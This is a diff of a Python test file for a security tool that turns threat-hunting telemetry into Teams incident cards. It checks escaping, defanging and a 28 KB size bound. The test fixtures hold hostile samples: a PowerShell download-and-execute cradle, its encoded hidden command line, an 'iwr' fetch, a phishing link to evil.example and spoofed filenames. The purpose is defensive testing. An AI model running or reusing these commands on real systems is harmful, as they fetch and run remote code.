@@ -1,35 +1,31 @@
-"""The Teams digest card: structure, links, the 28 KB bound and hostile telemetry."""
+"""The incident card: structure, evidence, the 28 KB bound and hostile telemetry."""
 
 from __future__ import annotations
 
 import base64
-import gzip
 import json
 import subprocess
 from collections.abc import Iterator
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
 from typing import Any
-from urllib.parse import unquote
 
 import pytest
 
 from shared.cards import (
     ADAPTIVE_CARD,
     MAX_PAYLOAD_BYTES,
-    PortalLinks,
-    build_digest,
     card_of,
     escape_text,
     payload_size,
     summarize_digest,
 )
+from shared.cards.incident import build_incident_post
 from shared.hunt import Hunt, TeamsOptions
-from shared.window import Window
+from shared.incidents.preview import incident_preview
 
 REPO = Path(__file__).resolve().parents[1]
 NOW = datetime(2026, 11, 27, 23, 0, tzinfo=UTC)
-WINDOW = Window(NOW - timedelta(hours=4), NOW)
 DEVICE_ID = "3f6b2c1d9e8a7b6c5d4e3f2a1b0c9d8e7f6a5b4c"
 
 INVISIBLE = ("\u200b\u200c\u200d\u200e\u200f\u202a\u202b\u202c\u202d\u202e"
@@ -40,6 +36,8 @@ HOSTILE = ("powershell -c \"[Reset your password](https://evil.example/login) "
            "www.evil.example {{DATE(2017-02-14T06:08:39Z, SHORT)}} "
            f"invoice{INVISIBLE}gpj.exe\" ")
 HOSTILE_32K = (HOSTILE * (32_767 // len(HOSTILE) + 1))[:32_767]
+CRADLE = "IEX (New-Object Net.WebClient).DownloadString('x')"
+ENCODED = base64.b64encode(CRADLE.encode("utf-16-le")).decode()
 
 
 def hunt(**overrides: Any) -> Hunt:
@@ -66,12 +64,18 @@ def row(index: int = 0, **overrides: Any) -> dict[str, Any]:
         "AccountName": "j.doe",
         "InitiatingProcessFileName": "WINWORD.EXE",
         "FileName": "powershell.exe",
-        "ProcessCommandLine": "powershell.exe -NoP -W Hidden -Enc SQBFAFgA",
-        "DecodedCommand": "IEX (New-Object Net.WebClient).DownloadString('x')",
+        "ProcessCommandLine": f"powershell.exe -NoP -W Hidden -Enc {ENCODED}",
+        "DecodedCommand": CRADLE,
         "ReportId": 1000 + index,
     }
     values.update(overrides)
     return values
+
+
+def build(chosen: Hunt, rows: list[dict[str, Any]]) -> dict[str, Any]:
+    """The incident card production posts for *rows* of *chosen* (one device: one incident)."""
+    _, _, post = incident_preview([chosen], {chosen.id: rows})
+    return build_incident_post(post)
 
 
 def walk(node: Any) -> Iterator[dict[str, Any]]:
@@ -104,7 +108,7 @@ def more_line(payload: dict[str, Any]) -> str | None:
 # --- structure -----------------------------------------------------------------------------
 
 def test_payload_is_a_teams_message_carrying_one_adaptive_card_1_4() -> None:
-    payload = build_digest(hunt(), WINDOW, [row()], total_new=1)
+    payload = build(hunt(), [row()])
 
     assert payload["type"] == "message"
     assert len(payload["attachments"]) == 1
@@ -115,170 +119,112 @@ def test_payload_is_a_teams_message_carrying_one_adaptive_card_1_4() -> None:
     assert card["msteams"] == {"width": "Full"}, "no mention entities, ever"
 
 
-def test_header_names_hunt_severity_count_window_and_links_techniques() -> None:
-    payload = build_digest(hunt(), WINDOW, [row(i) for i in range(3)], total_new=3)
+def test_header_names_severity_hunt_device_count_and_links_techniques() -> None:
+    payload = build(hunt(), [row(i) for i in range(3)])
     header = card_of(payload)["body"][0]
     text = all_text({"attachments": [{"content": header}]})
 
     assert "Encoded PowerShell from Office" in text
     assert "HIGH" in text
     assert "3 new findings" in text
-    assert "2026-11-27 19:00 → 23:00 UTC" in text
+    assert "ws-fin-042.contoso.local" in text
     links = {r["text"]: r["selectAction"]["url"] for r in text_runs(payload)
              if "selectAction" in r}
     assert links["T1059.001"] == "https://attack.mitre.org/techniques/T1059/001/"
     assert links["T1105"] == "https://attack.mitre.org/techniques/T1105/"
 
 
-def test_finding_shows_time_device_account_parent_process_command_and_decoded() -> None:
-    payload = build_digest(hunt(), WINDOW, [row()], total_new=1)
-    finding = card_of(payload)["body"][1]
-    runs = [r for r in walk(finding) if r.get("type") == "TextRun"]
-    texts = [r["text"] for r in runs]
+def test_finding_shows_time_account_parent_process_command_and_decoded_once() -> None:
+    texts = [r["text"] for r in text_runs(build(hunt(), [row()]))]
 
     assert "2026-11-27 22:14:03 UTC" in texts
     assert "contoso\\j.doe" in texts
     assert "WINWORD.EXE" in texts
     assert "powershell.exe" in texts
-    command = next(r for r in runs if r["text"].startswith("powershell.exe -NoP"))
-    assert command["fontType"] == "Monospace"
-    decoded = next(r for r in runs if r["text"].startswith("IEX"))
-    assert decoded["fontType"] == "Monospace"
-    device = next(r for r in runs if r["text"] == "ws-fin-042.contoso.local")
-    assert device["selectAction"]["url"] == f"https://security.microsoft.com/machines/v2/{DEVICE_ID}"
+    assert (f"powershell.exe -NoP -W Hidden -Enc ‹base64, {len(ENCODED)} characters, decoded "
+            "script 1 above›") in texts
+    assert ENCODED not in str(texts)  # the blob only as its length
+    assert texts.count(CRADLE) == 1
 
 
-def test_network_rows_use_the_initiating_process_and_remote_endpoint() -> None:
+def test_network_rows_use_the_initiating_process_and_show_the_endpoint_with_a_colon() -> None:
     network = {"Timestamp": "2026-11-27T22:14:03.1234567Z", "DeviceId": DEVICE_ID,
                "DeviceName": "ws1", "InitiatingProcessParentFileName": "explorer.exe",
                "InitiatingProcessFileName": "powershell.exe",
                "InitiatingProcessCommandLine": "powershell -c iwr https://x.example/a",
                "RemoteIP": "203.0.113.7", "RemotePort": 443, "RemoteUrl": "x.example"}
-    texts = [r["text"] for r in text_runs(build_digest(hunt(), WINDOW, [network], total_new=1))]
+    texts = [r["text"] for r in text_runs(build(hunt(), [network]))]
 
     assert "2026-11-27 22:14:03 UTC" in texts
     assert "explorer.exe" in texts
     assert "powershell -c iwr hxxps[:]//x[.]example/a" in texts
-    assert "203.0.113.7:443 x.example" in texts
+    assert "203.0.113.7:443 (x.example)" in texts
 
 
 def test_rows_without_process_fields_show_their_own_columns() -> None:
     signin = {"TimeGenerated": NOW, "UserPrincipalName": "ceo@contoso.com",
               "IPAddress": "198.51.100.9", "ResultType": 0, "TenantId": "hidden"}
-    payload = build_digest(hunt(source="sentinel"), WINDOW, [signin], total_new=1)
-    texts = [r["text"] for r in text_runs(payload)]
+    texts = [r["text"] for r in text_runs(build(hunt(source="sentinel"), [signin]))]
 
     assert "ceo@contoso.com" in texts
     assert "198.51.100.9" in texts
+    assert "ResultType: " in texts  # an unknown column: name and value, never dropped
     assert "hidden" not in texts
 
 
-def test_teams_columns_of_the_hunt_are_added_to_each_finding() -> None:
+def test_teams_columns_of_the_hunt_are_always_shown() -> None:
     chosen = hunt(teams=TeamsOptions(max_findings=5, columns=("SHA256", "FolderPath")))
-    payload = build_digest(chosen, WINDOW, [row(SHA256="ab" * 32, FolderPath="C:\\Temp")],
-                           total_new=1)
-    texts = [r["text"] for r in text_runs(payload)]
+    texts = [r["text"] for r in text_runs(build(chosen, [row(SHA256="ab" * 32,
+                                                             FolderPath="C:\\Temp")]))]
 
     assert "SHA256: " in texts
     assert "ab" * 32 in texts
+    assert "FolderPath: " in texts  # a process detail otherwise only named
     assert "C:\\Temp" in texts
-
-
-def test_defender_action_opens_the_exact_query_in_advanced_hunting() -> None:
-    chosen = hunt()
-    card = card_of(build_digest(chosen, WINDOW, [row()], total_new=1,
-                                portal=PortalLinks(tenant_id="contoso-tenant")))
-    action = card["actions"][0]
-    url = action["url"]
-
-    assert action["type"] == "Action.OpenUrl"
-    assert url.startswith("https://security.microsoft.com/v2/advanced-hunting?query=")
-    assert url.endswith("&timeRangeId=week&tid=contoso-tenant")
-    encoded = url.split("query=")[1].split("&")[0]
-    decoded = gzip.decompress(base64.urlsafe_b64decode(encoded + "=" * (-len(encoded) % 4)))
-    assert decoded.decode("utf-16-le") == chosen.query
-
-
-def test_sentinel_action_opens_the_logs_blade_over_the_hunt_window() -> None:
-    workspace = ("/subscriptions/0000/resourceGroups/soc/providers/"
-                 "Microsoft.OperationalInsights/workspaces/sentinel")
-    chosen = hunt(source="sentinel", query="SigninLogs | where ResultType != 0")
-    card = card_of(build_digest(chosen, WINDOW, [row()], total_new=1,
-                                portal=PortalLinks(sentinel_workspace_resource_id=workspace)))
-    url = card["actions"][0]["url"]
-
-    assert url.startswith("https://portal.azure.com/#/blade/Microsoft_Azure_Monitoring_Logs/")
-    assert unquote(url.split("/resourceId/")[1].split("/")[0]) == workspace
-    encoded = unquote(url.split("/q/")[1].split("/")[0])
-    assert gzip.decompress(base64.b64decode(encoded)).decode() == chosen.query
-    assert unquote(url.split("/timespan/")[1]) == WINDOW.iso_interval()
-
-
-def test_sentinel_hunt_without_workspace_resource_id_has_no_query_link() -> None:
-    card = card_of(build_digest(hunt(source="sentinel"), WINDOW, [row()], total_new=1))
-    assert "actions" not in card
 
 
 @pytest.mark.parametrize("device_id", ["not-a-device", "a" * 39, "a" * 40 + "/../../evil",
                                        "[x](https://evil.example)", 42, None])
 def test_device_link_only_for_a_well_formed_device_id(device_id: Any) -> None:
-    payload = build_digest(hunt(), WINDOW, [row(DeviceId=device_id)], total_new=1)
-    urls = [r["selectAction"]["url"] for r in text_runs(payload) if "selectAction" in r]
+    payload = build(hunt(), [row(DeviceId=device_id)])
+    card = card_of(payload)
+    urls = [a["url"] for a in card.get("actions", [])]
+    urls += [r["selectAction"]["url"] for r in text_runs(payload) if "selectAction" in r]
 
     assert not [u for u in urls if "machines" in u]
-    assert "evil" not in json.dumps(payload)
+    assert "evil.example" not in json.dumps(payload)
 
 
 # --- the size bound --------------------------------------------------------------------------
 
-@pytest.mark.parametrize("count", [1, 50, 5_000])
-@pytest.mark.parametrize("max_findings", [10, 50])
-def test_payload_stays_under_28_kb_with_32k_hostile_values(count: int, max_findings: int) -> None:
+@pytest.mark.parametrize("count", [1, 50, 3_000])
+def test_payload_stays_under_28_kb_with_32k_hostile_values(count: int) -> None:
+    big = HOSTILE_32K if count < 100 else HOSTILE * 10  # (hashing 3,000 x 2 MB rows is slow)
     rows = [row(i, ProcessCommandLine=HOSTILE_32K, DecodedCommand=HOSTILE_32K,
-                DeviceName=HOSTILE_32K, AccountName=HOSTILE_32K) for i in range(count)]
-    chosen = hunt(teams=TeamsOptions(max_findings=max_findings))
-    payload = build_digest(chosen, WINDOW, rows, total_new=count)
-    shown = findings_shown(payload)
+                AccountName=big, Extra=big, Tree=[big] * 50) for i in range(count)]
+    payload = build(hunt(), rows)
 
     assert payload_size(payload) <= MAX_PAYLOAD_BYTES
-    assert 1 <= shown <= min(count, max_findings)
-    if shown < count:
-        assert more_line(payload) == (f"…and {count - shown:,} more of {count:,} new findings "
-                                      "not shown here.")
-    else:
-        assert more_line(payload) is None
+    assert card_of(payload)["version"] == "1.4"
+    assert f"{count:,} new finding" in all_text(payload)
 
 
 def test_multibyte_values_are_measured_in_bytes() -> None:
     emoji = "😈" * 32_767
-    rows = [row(i, ProcessCommandLine=emoji, DecodedCommand=emoji) for i in range(5_000)]
-    payload = build_digest(hunt(teams=TeamsOptions(max_findings=50)), WINDOW, rows,
-                           total_new=5_000)
+    rows = [row(i, ProcessCommandLine=emoji, DecodedCommand=emoji) for i in range(3_000)]
+    payload = build(hunt(), rows)
 
     assert payload_size(payload) <= MAX_PAYLOAD_BYTES
-    assert findings_shown(payload) >= 1
 
 
-def test_short_findings_are_all_shown_up_to_max_findings() -> None:
-    payload = build_digest(hunt(), WINDOW, [row(i) for i in range(10)], total_new=10)
-    assert findings_shown(payload) == 10
-    assert more_line(payload) is None
-
-
-def test_total_new_beyond_the_rows_given_is_counted_in_and_more() -> None:
-    payload = build_digest(hunt(), WINDOW, [row(i) for i in range(3)], total_new=120)
-    assert findings_shown(payload) == 3
-    assert "117 more of 120" in (more_line(payload) or "")
-
-
-def test_summarize_digest_reads_back_the_header() -> None:
-    summary = summarize_digest(build_digest(hunt(), WINDOW, [row(i) for i in range(12)],
-                                            total_new=1_500))
+def test_summarize_digest_reads_back_an_incident_card() -> None:
+    summary = summarize_digest(build(hunt(), [row(i) for i in range(12)]))
 
     assert summary.severity == "HIGH"
     assert summary.hunt_name == "Encoded PowerShell from Office"
-    assert summary.total_new == 1_500
-    assert summary.findings_shown == 10
+    assert summary.kind == "incident"
+    assert summary.total_new == 12
+    assert summary.where == "ws-fin-042.contoso.local"
 
 
 def test_payload_size_is_compact_utf8_json() -> None:
@@ -292,14 +238,14 @@ def hostile_payload() -> dict[str, Any]:
     rows = [row(i, ProcessCommandLine=HOSTILE_32K, DecodedCommand=HOSTILE_32K,
                 DeviceName=HOSTILE, AccountName=HOSTILE, InitiatingProcessFileName=HOSTILE,
                 FileName=HOSTILE) for i in range(5)]
-    return build_digest(hunt(), WINDOW, rows, total_new=5)
+    return build(hunt(), rows)
 
 
 def test_telemetry_is_only_ever_in_text_runs() -> None:
     canary = "CANARY-7f3a"
     values = {k: f"{canary} {k}" for k in row()}
     values["Timestamp"] = f"{canary} not a time"
-    payload = build_digest(hunt(), WINDOW, [values], total_new=1)
+    payload = build(hunt(), [values])
 
     for node in walk(card_of(payload)):
         for key, value in node.items():
@@ -326,23 +272,23 @@ def test_hostile_payload_keeps_visible_evidence_of_what_was_neutralised() -> Non
     for marker in ("{U+202E}", "{U+200B}", "{U+2066}", "{U+FEFF}", "{U+0000}"):
         assert marker in dump
     assert "hxxps[:]//evil[.]example/login" in dump
-    assert "…[truncated: 32,767 chars]" in dump
+    assert "more characters in advanced hunting" in dump  # the decoded script, cut
+    assert "…[truncated: 32," in dump  # the command line
     assert "\u2039at>SOC Lead\u2039/at>" in dump
 
 
 def test_a_time_column_that_is_not_a_time_is_escaped_like_any_value() -> None:
-    payload = build_digest(hunt(), WINDOW, [row(Timestamp=HOSTILE)], total_new=1)
-    headline = card_of(payload)["body"][1]["items"][0]["inlines"][0]["text"]
+    payload = build(hunt(), [row(Timestamp=HOSTILE)])
+    dump = all_text(payload)
 
-    assert headline.startswith("powershell -c")
-    assert "<at>" not in headline
-    assert "\u202e" not in headline
+    assert "<at>" not in dump
+    assert "\u202e" not in dump
 
 
 def test_hostile_hunt_file_strings_are_escaped_too() -> None:
     chosen = hunt(name="<at>all</at> [x](https://evil.example)", tactics=("\u202eExecution",),
                   description="![p](https://evil.example/p.png)")
-    dump = all_text(build_digest(chosen, WINDOW, [row()], total_new=1))
+    dump = all_text(build(chosen, [row()]))
 
     for needle in ("<at>", "https://evil", "\u202e"):
         assert needle not in dump
